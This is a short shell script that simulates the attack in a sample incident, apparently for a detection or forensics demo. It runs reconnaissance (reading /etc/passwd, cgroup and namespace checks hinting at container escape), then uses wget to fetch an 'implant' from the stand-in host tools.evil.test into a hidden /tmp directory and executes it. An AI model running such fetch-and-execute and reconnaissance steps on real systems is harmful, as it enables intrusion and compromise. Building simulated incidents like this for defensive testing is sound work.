#!/bin/sh
# The scripted, harmless attack of the sample incident: reconnaissance, a
# download of a "tool" by name, which then beacons, tunnels names through
# DNS and tries to escape (see progs/implant.c).
echo "[attack] recon"
id
uname -a
cat /etc/passwd
cat /proc/self/cgroup
ls /proc/1/ns
mount | head -n 5
echo "[attack] fetch the tool"
mkdir -p /tmp/.x
wget -q -O /tmp/.x/implant http://tools.evil.test:8080/implant
chmod +x /tmp/.x/implant
echo "[attack] run it"
/tmp/.x/implant &
wait
